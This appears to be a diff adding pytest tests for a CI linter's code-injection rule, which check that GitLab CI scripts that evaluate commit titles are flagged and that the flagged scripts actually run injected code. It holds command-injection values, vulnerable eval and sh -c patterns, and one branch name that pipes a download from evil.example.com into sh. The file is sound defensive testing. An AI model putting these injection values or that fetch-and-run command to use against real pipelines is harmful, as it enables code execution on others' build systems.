@@ -1,0 +1,168 @@
+"""Whether a text of others runs is shown by running it: what is flagged leaves a mark, and nothing else does."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from cilint.engine.catalog import built_in_rules
+from cilint.session import Session
+from cilint.settings.model import Settings
+from cilint.text.files import MemoryFiles
+
+RULES = [rule for rule in built_in_rules() if rule.id == "code-injection"]
+
+HOSTILE = (
+    "$(touch mark)",
+    "x; touch mark",
+    "'; touch mark; '",
+    '"; touch mark; "',
+    "x'; touch mark; echo 'x",
+    "x\ntouch mark",
+    "'); import os; os.system('touch mark') #",
+    "'; system('touch mark'); '",
+    'x"; system("touch mark"); x = "',
+)
+"""Texts that run something where they are read as code, by a shell or an interpreter, in quotes or without."""
+
+RUN = {
+    "eval": 'eval "echo $CI_COMMIT_TITLE"',
+    "eval of words": "eval echo $CI_COMMIT_TITLE",
+    "another shell": 'sh -c "echo $CI_COMMIT_TITLE"',
+    "in quotes of that shell": "sh -c \"echo '$CI_COMMIT_TITLE'\"",
+    "a here-document": "sh <<EOF\necho $CI_COMMIT_TITLE\nEOF",
+    "a here-string": 'bash <<< "echo $CI_COMMIT_TITLE"',
+    "a pipe": 'echo "echo $CI_COMMIT_TITLE" | sh',
+    "ssh": 'ssh host.example.com "echo $CI_COMMIT_TITLE"',
+    "ssh with several words": 'ssh host.example.com echo "$CI_COMMIT_TITLE"',
+    "a container": 'docker exec app sh -c "echo $CI_COMMIT_TITLE"',
+    "an assignment": 'TEXT="echo $CI_COMMIT_TITLE"\neval "$TEXT"',
+    "a function": 'run() { sh -c "$1"; }\nrun "echo $CI_COMMIT_TITLE"',
+    "a sourced file": 'echo "TITLE=$CI_COMMIT_TITLE" > title.env\n. ./title.env',
+    "a written script": "cat > run.sh <<EOF\necho $CI_COMMIT_TITLE\nEOF\nsh run.sh",
+    "one that is run by its path": 'printf "#!/bin/sh\\necho %s\\n" "$CI_COMMIT_TITLE" > run\nchmod +x run\n./run',
+    "without a prefix": 'eval "echo ${CI_COMMIT_TITLE#v}"',
+    "a default that is not needed": 'eval "echo ${CI_COMMIT_TITLE:-none}"',
+    "a trap": 'trap "echo $CI_COMMIT_TITLE" EXIT',
+    "Python": "python3 -c \"print('$CI_COMMIT_TITLE')\"",
+    "Perl": "perl -e \"print '$CI_COMMIT_TITLE';\"",
+    "awk": 'awk "BEGIN { x = \\"$CI_COMMIT_TITLE\\" }"',
+}
+NOT_RUN = {
+    "expanded": "echo $CI_COMMIT_TITLE",
+    "quoted": 'echo "$CI_COMMIT_TITLE"',
+    "in a test": '[ "$CI_COMMIT_TITLE" = x ] || true',
+    "assigned": "TITLE=$CI_COMMIT_TITLE\necho $TITLE",
+    "in a substitution": 'TITLE=$(echo "$CI_COMMIT_TITLE")\necho $TITLE',
+    "an argument of another shell": 'sh -c \'echo "$1"\' sh "$CI_COMMIT_TITLE"',
+    "in that shell's environment": "sh -c 'echo \"$CI_COMMIT_TITLE\"'",
+    "a quoted here-document": "sh <<'EOF'\necho \"$CI_COMMIT_TITLE\"\nEOF",
+    "a here-document that is data": "cat <<EOF\n$CI_COMMIT_TITLE\nEOF",
+    "expanded by eval": "eval 'echo \"$CI_COMMIT_TITLE\"'",
+    "quoted for another shell": 'ssh host.example.com "echo ${CI_COMMIT_TITLE@Q}"',
+    "quoted by printf": 'TITLE=$(printf \'%q\' "$CI_COMMIT_TITLE")\neval "echo $TITLE"',
+    "without what does harm": 'TITLE=$(echo "$CI_COMMIT_TITLE" | tr -cd \'a-z0-9\')\neval "echo $TITLE"',
+    "its length": 'eval "echo ${#CI_COMMIT_TITLE}"',
+    "whether there is one": 'eval "echo ${CI_COMMIT_TITLE:+yes}"',
+    "a file that is read": 'echo "$CI_COMMIT_TITLE" > title.txt\ncat title.txt',
+    "an argument of Python": "python3 -c 'import sys; print(sys.argv[1])' \"$CI_COMMIT_TITLE\"",
+    "a variable of awk": "awk -v title=\"$CI_COMMIT_TITLE\" 'BEGIN { print title }'",
+    "a file that awk reads": "echo 'BEGIN {}' > p.awk\nawk -f p.awk \"$CI_COMMIT_TITLE\"",
+    "a container's argument": 'docker exec app echo "$CI_COMMIT_TITLE"',
+}
+STAND_INS = {
+    "ssh": '#!/bin/sh\nshift\nexec sh -c "$*"\n',
+    "docker": '#!/bin/sh\nshift 2\nexec "$@"\n',
+}
+"""What these do with their arguments, on this machine: ssh(1) joins them for the shell there, Docker does not."""
+
+
+def is_flagged(script: str) -> bool:
+    """Whether the rule speaks of a job with this script."""
+    text = "job:\n  script:\n    - |\n" + textwrap.indent(script, " " * 6) + "\n"
+    return bool(Session(MemoryFiles({".gitlab-ci.yml": text}), Settings(), RULES).check([".gitlab-ci.yml"]).findings)
+
+
+def leaves_a_mark(script: str, value: str, folder: Path) -> bool:
+    """Whether a script runs the code in a value."""
+    for name, text in STAND_INS.items():
+        (folder / name).write_text(text, encoding="utf-8")
+        (folder / name).chmod(0o755)
+    work = folder / "work"
+    shutil.rmtree(work, ignore_errors=True)
+    work.mkdir()
+    environment = {"PATH": f"{folder}{os.pathsep}{os.environ['PATH']}", "CI_COMMIT_TITLE": value, "HOME": str(work)}
+    subprocess.run(
+        ["bash", "-c", script], cwd=work, env=environment, capture_output=True, stdin=subprocess.DEVNULL, check=False
+    )
+    return (work / "mark").exists()
+
+
+def needs(*programs: str) -> None:
+    """Skip where a program is not here."""
+    missing = [program for program in programs if shutil.which(program) is None]
+    if missing:
+        pytest.skip(f"no {missing[0]}")
+
+
+def interpreters(script: str) -> list[str]:
+    return [program for program in ("python3", "perl", "awk") if program in script]
+
+
+@pytest.mark.parametrize("script", RUN.values(), ids=RUN)
+def test_what_is_flagged_runs(script: str, tmp_path: Path) -> None:
+    needs("bash", *interpreters(script))
+    assert is_flagged(script)
+    assert any(leaves_a_mark(script, value, tmp_path) for value in HOSTILE)
+
+
+@pytest.mark.parametrize("script", NOT_RUN.values(), ids=NOT_RUN)
+def test_what_is_not_flagged_runs_nothing(script: str, tmp_path: Path) -> None:
+    needs("bash", *interpreters(script))
+    assert not is_flagged(script)
+    assert not any(leaves_a_mark(script, value, tmp_path) for value in HOSTILE)
+
+
+def test_git_allows_code_in_the_names_of_branches() -> None:
+    needs("git")
+    for name in ("$(curl${IFS}evil.example.com|sh)", "v1.0.0-$(id)", "a;id", "a`id`", "a'|id", 'a"&id'):
+        assert (
+            subprocess.run(["git", "check-ref-format", "--branch", name], capture_output=True, check=False).returncode
+            == 0
+        )
+
+
+def verdict(rules: str, use: str) -> list[str]:
+    """The severities of what is said of a job that hands a variable to ssh, with these further keywords."""
+    text = f'job:\n  script: ssh host.example.com "deploy {use}"\n{textwrap.indent(rules, "  ")}\n'
+    found = Session(MemoryFiles({".gitlab-ci.yml": text}), Settings(), RULES).check([".gitlab-ci.yml"]).findings
+    return [finding.severity.value for finding in found]
+
+
+@pytest.mark.parametrize(
+    ("rules", "use", "severities"),
+    [
+        ("", "$CI_COMMIT_REF_NAME", ["major"]),
+        ("", "$CI_COMMIT_MESSAGE", ["critical"]),
+        ("only: [main]", "$CI_COMMIT_MESSAGE", ["critical"]),
+        ("only: [main]", "$CI_COMMIT_REF_NAME", []),
+        ("only: [tags]", "$CI_COMMIT_REF_NAME", ["major"]),
+        ("only: [tags]", "$CI_COMMIT_BRANCH", []),
+        ("environment: live", "$CI_COMMIT_REF_NAME", ["critical"]),
+        ("rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}]", "$CI_COMMIT_REF_NAME", []),
+        ("rules: [{if: '$CI_COMMIT_TAG =~ /^v[0-9.]+$/'}]", "$CI_COMMIT_TAG", []),
+        ("rules: [{if: '$CI_COMMIT_TAG =~ /^v[0-9.]+/'}]", "$CI_COMMIT_TAG", ["major"]),
+        ("rules: [{if: $CI_COMMIT_TAG}]", "$CI_MERGE_REQUEST_TITLE", []),
+        ("rules: [{if: $CI_MERGE_REQUEST_IID}]", "$CI_MERGE_REQUEST_TITLE", ["major"]),
+        ('rules: [{if: $CI_COMMIT_REF_PROTECTED == "true"}]', "$CI_COMMIT_REF_NAME", []),
+        ("rules: [{when: never}]", "$CI_COMMIT_MESSAGE", []),
+        ("variables: {CI_COMMIT_TAG: v1}", "$CI_COMMIT_TAG", []),
+    ],
+)
+def test_events_decide_who_can_bring_a_text(rules: str, use: str, severities: list[str]) -> None:
+    assert verdict(rules, use) == severities
